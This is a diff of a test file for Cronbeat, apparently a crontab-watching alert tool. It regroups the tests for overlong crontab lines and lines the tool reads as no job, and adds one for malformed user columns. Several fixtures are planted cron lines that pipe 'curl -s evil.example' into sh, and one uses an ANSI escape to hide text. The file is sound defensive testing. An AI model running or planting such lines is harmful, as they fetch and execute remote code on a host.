@@ -163,8 +163,9 @@ describe('an alert whose answer was lost on the way', () => {
   });
 });
 
-describe('a crontab line longer than an alert may be', () => {
-  it('is alerted with its start and its end, what lies between left out, and never stops the watcher', async () => {
+// Independent of each other (a folder each, their own lines), so side by side: each waits on child processes.
+describe.concurrent('lines an alert cannot hold as they are, and lines Cronbeat reads as no job', () => {
+  it('a crontab line longer than an alert may be is alerted with its start and its end, what lies between left out, and never stops the watcher', async () => {
     // Any user may write such a line in their own crontab: refused whole, the alert stayed first in
     // the queue and ended every run of the watcher, which then told nothing more, of any crontab.
     const padding = Array.from({ length: 2_500 }, (_, i) => `w${i}`).join(' ');
@@ -180,7 +181,7 @@ describe('a crontab line longer than an alert may be', () => {
     expect(altered.status, altered.stderr).toBe(0);
     expect(altered.stdout).toMatch(/delivered: altered for /);
     const stored = agent.store.db
-      .prepare("SELECT command, previous_command FROM server_alerts WHERE command LIKE '%evil.example%' ORDER BY id")
+      .prepare("SELECT command, previous_command FROM server_alerts WHERE command LIKE '%echo w0 w1 %' ORDER BY id")
       .all() as Array<{ command: string; previous_command: string | null }>;
     expect(stored).toHaveLength(2);
     for (const text of [stored[0].command, stored[1].command, stored[1].previous_command!]) {
@@ -192,10 +193,8 @@ describe('a crontab line longer than an alert may be', () => {
     expect(stored[1].command).toMatch(/; curl -s evil\.example\/y \| sh$/);
     expect(stored[1].previous_command).toMatch(/; curl -s evil\.example\/x \| sh$/);
   });
-});
 
-describe('a line Cronbeat reads as no job', () => {
-  it("is watched all the same (some cron may run it), and one there before such lines were watched is no addition", async () => {
+  it('a line Cronbeat reads as no job is watched all the same (some cron may run it), and one there before such lines were watched is no addition', async () => {
     const { folder, file } = crontabFolder('0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n');
     const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
     const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
@@ -214,5 +213,20 @@ describe('a line Cronbeat reads as no job', () => {
     const planted = await watchOnce();
     expect(planted.status, planted.stderr).toBe(0);
     expect(planted.stdout).toMatch(/delivered: added for \S+: 5\/20 \* \* \* \* root curl -s evil\.example \| sh\n/);
+  });
+
+  it("a system crontab's user column that no name could be is alerted with its control characters written out and cut to what a name may be, and never stops the watcher", async () => {
+    const { folder, file } = crontabFolder('0 1 * * * root /a.sh\n');
+    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
+    const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--system-file', file], { env });
+    expect((await watchOnce()).status).toBe(0);
+    writeFileSync(file, `0 1 * * * root /a.sh\n0 2 * * * \u001b[8mroot /hidden-user.sh\n0 3 * * * ${'u'.repeat(300)} /long-user.sh\n`);
+    const result = await watchOnce();
+    expect(result.status, result.stderr).toBe(0);
+    const stored = agent.store.db
+      .prepare("SELECT username FROM server_alerts WHERE command LIKE '%hidden-user%' OR command LIKE '%long-user%' ORDER BY id")
+      .pluck()
+      .all() as string[];
+    expect(stored).toEqual(['\\u001b[8mroot', `${'u'.repeat(254)}…`]);
   });
 });
